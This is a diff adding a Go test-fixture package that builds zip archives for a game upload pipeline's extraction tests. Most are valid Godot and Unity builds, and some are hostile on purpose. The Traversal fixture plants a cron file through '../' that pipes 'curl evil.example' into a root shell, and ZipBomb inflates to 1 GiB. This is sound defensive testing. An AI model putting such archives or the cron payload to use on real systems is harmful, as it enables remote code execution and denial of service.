@@ -0,0 +1,231 @@
+// Package fixtures generates a corpus of representative game archives: real
+// engine layouts plus the malformed and hostile zips the upload pipeline has
+// to survive. The upload tests run every fixture through extraction, so
+// pipeline changes get checked against realistic inputs, and seeded games and
+// load tests are built from it.
+package fixtures
+
+import (
+	"archive/zip"
+	"bytes"
+	"compress/flate"
+	"compress/gzip"
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+)
+
+// Fixture is one generated archive and what the upload pipeline should do
+// with it.
+type Fixture struct {
+	Name        string
+	Description string
+	// Accept is true when the pipeline should publish the archive
+	Accept bool
+	// Code is the upload error code a rejected archive fails with, empty
+	// when its rejection has none
+	Code  string
+	Build func() ([]byte, error)
+}
+
+// Corpus returns every fixture, in a stable order.
+func Corpus() []Fixture {
+	return []Fixture{
+		{"godot-web", "Godot 4 Web export at the archive root", true, "", GodotBuild},
+		{"godot-web-nested", "Godot 4 Web export inside a single top-level folder", true, "", NestedGodotBuild},
+		{"unity-webgl", "Unity WebGL build with gzip-compressed Build/ files", true, "", UnityBuild},
+		{"non-utf8-names", "File names in a legacy code page, without the UTF-8 flag", true, "", NonUTF8Names},
+		{"zip64", "Archive with more than 65535 entries, forcing a Zip64 end of central directory; read, then over the entry limit", false, "too_many_entries", Zip64},
+		{"traversal", "Entries escaping the extraction directory with ../ and absolute paths", false, "", Traversal},
+		{"zip-bomb", "A small archive that inflates to 1 GiB", false, "suspicious_compression", func() ([]byte, error) { return ZipBomb(1 << 30) }},
+		{"not-a-zip", "Bytes that aren't a zip, with a .zip name", false, "", func() ([]byte, error) { return []byte("this is not a zip archive"), nil }},
+	}
+}
+
+// WriteCorpus writes every fixture to dir as <name>.zip.
+func WriteCorpus(dir string) error {
+	if err := os.MkdirAll(dir, 0755); err != nil {
+		return err
+	}
+	for _, f := range Corpus() {
+		data, err := f.Build()
+		if err != nil {
+			return fmt.Errorf("failed to build fixture %s: %v", f.Name, err)
+		}
+		if err := os.WriteFile(filepath.Join(dir, f.Name+".zip"), data, 0644); err != nil {
+			return fmt.Errorf("failed to write fixture %s: %v", f.Name, err)
+		}
+	}
+	return nil
+}
+
+type entry struct {
+	name string
+	data []byte
+}
+
+func buildZip(entries []entry) ([]byte, error) {
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for _, e := range entries {
+		w, err := zw.Create(e.name)
+		if err != nil {
+			return nil, err
+		}
+		if _, err := w.Write(e.data); err != nil {
+			return nil, err
+		}
+	}
+	if err := zw.Close(); err != nil {
+		return nil, err
+	}
+	return buf.Bytes(), nil
+}
+
+// Minimal valid WebAssembly module: magic + version 1
+var wasmModule = []byte{0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00}
+
+const godotIndex = `<!DOCTYPE html>
+<html lang="en">
+<head><meta charset="utf-8"><title>Fixture</title></head>
+<body>
+<canvas id="canvas"></canvas>
+<script src="index.js"></script>
+<script>
+const engine = new Engine({"executable":"index","mainPack":"index.pck"});
+engine.startGame();
+</script>
+</body>
+</html>
+`
+
+func godotEntries(prefix string) []entry {
+	return []entry{
+		{prefix + "index.html", []byte(godotIndex)},
+		{prefix + "index.js", []byte("function Engine(config) { this.config = config; }\nEngine.prototype.startGame = function () {};\n")},
+		{prefix + "index.wasm", wasmModule},
+		{prefix + "index.pck", append([]byte("GDPC"), make([]byte, 1024)...)},
+		{prefix + "index.audio.worklet.js", []byte("class GodotProcessor extends AudioWorkletProcessor {}\n")},
+		{prefix + "index.png", pngHeader},
+	}
+}
+
+// PNG signature followed by an empty IHDR, enough for type sniffing
+var pngHeader = []byte{0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'}
+
+func GodotBuild() ([]byte, error) {
+	return buildZip(godotEntries(""))
+}
+
+func NestedGodotBuild() ([]byte, error) {
+	entries := godotEntries("MyGame/")
+	entries = append(entries, entry{"__MACOSX/MyGame/._index.html", []byte{0, 5, 22, 7}})
+	return buildZip(entries)
+}
+
+func gzipped(data []byte) []byte {
+	var buf bytes.Buffer
+	gw, _ := gzip.NewWriterLevel(&buf, gzip.BestCompression)
+	gw.Write(data)
+	gw.Close()
+	return buf.Bytes()
+}
+
+func UnityBuild() ([]byte, error) {
+	return buildZip([]entry{
+		{"index.html", []byte(`<!DOCTYPE html><html><body><canvas id="unity-canvas"></canvas><script src="Build/Fixture.loader.js"></script></body></html>`)},
+		{"Build/Fixture.loader.js", []byte("function createUnityInstance() { return Promise.resolve(); }\n")},
+		{"Build/Fixture.framework.js.gz", gzipped([]byte("var unityFramework = function () {};\n"))},
+		{"Build/Fixture.wasm.gz", gzipped(wasmModule)},
+		{"Build/Fixture.data.gz", gzipped(make([]byte, 4096))},
+		{"TemplateData/style.css", []byte("body { margin: 0; }\n")},
+		{"TemplateData/favicon.ico", []byte{0, 0, 1, 0}},
+	})
+}
+
+// NonUTF8Names stores Shift-JIS and CP437 encoded names the way old zip tools
+// do, leaving the UTF-8 flag unset.
+func NonUTF8Names() ([]byte, error) {
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	names := [][]byte{
+		[]byte("index.html"),
+		{0x83, 0x51, 0x81, 0x5b, 0x83, 0x80, '.', 'j', 's'},                // "ゲーム.js" in Shift-JIS
+		{'m', 'u', 's', 'i', 'c', '/', 0x8e, 't', 'e', '.', 'o', 'g', 'g'}, // "Äte.ogg" in CP437
+	}
+	for _, name := range names {
+		w, err := zw.CreateHeader(&zip.FileHeader{Name: string(name), Method: zip.Deflate, NonUTF8: true})
+		if err != nil {
+			return nil, err
+		}
+		if _, err := w.Write([]byte("<!-- fixture -->\n")); err != nil {
+			return nil, err
+		}
+	}
+	if err := zw.Close(); err != nil {
+		return nil, err
+	}
+	return buf.Bytes(), nil
+}
+
+// Zip64 writes enough entries that the writer has to switch to a Zip64 end of
+// central directory record.
+func Zip64() ([]byte, error) {
+	const count = 1<<16 + 1
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	if w, err := zw.Create("index.html"); err != nil {
+		return nil, err
+	} else if _, err := w.Write([]byte(godotIndex)); err != nil {
+		return nil, err
+	}
+	for i := 1; i < count; i++ {
+		if _, err := zw.CreateHeader(&zip.FileHeader{Name: fmt.Sprintf("assets/%05d.txt", i), Method: zip.Store}); err != nil {
+			return nil, err
+		}
+	}
+	if err := zw.Close(); err != nil {
+		return nil, err
+	}
+	return buf.Bytes(), nil
+}
+
+func Traversal() ([]byte, error) {
+	return buildZip([]entry{
+		{"index.html", []byte(godotIndex)},
+		{"../../etc/cron.d/evil", []byte("* * * * * root curl evil.example | sh\n")},
+		{"assets/../../../outside.js", []byte("alert(1)\n")},
+		{"/tmp/absolute.txt", []byte("absolute path\n")},
+	})
+}
+
+// ZipBomb builds an archive holding a single index.html of size bytes, all
+// zeros, which deflate to about a thousandth of that.
+func ZipBomb(size int64) ([]byte, error) {
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	zw.RegisterCompressor(zip.Deflate, func(out io.Writer) (io.WriteCloser, error) {
+		return flate.NewWriter(out, flate.BestCompression)
+	})
+	w, err := zw.CreateHeader(&zip.FileHeader{Name: "index.html", Method: zip.Deflate})
+	if err != nil {
+		return nil, err
+	}
+
+	zeros := make([]byte, 1<<20)
+	for written := int64(0); written < size; {
+		n := int64(len(zeros))
+		if size-written < n {
+			n = size - written
+		}
+		if _, err := w.Write(zeros[:n]); err != nil {
+			return nil, err
+		}
+		written += n
+	}
+	if err := zw.Close(); err != nil {
+		return nil, err
+	}
+	return buf.Bytes(), nil
+}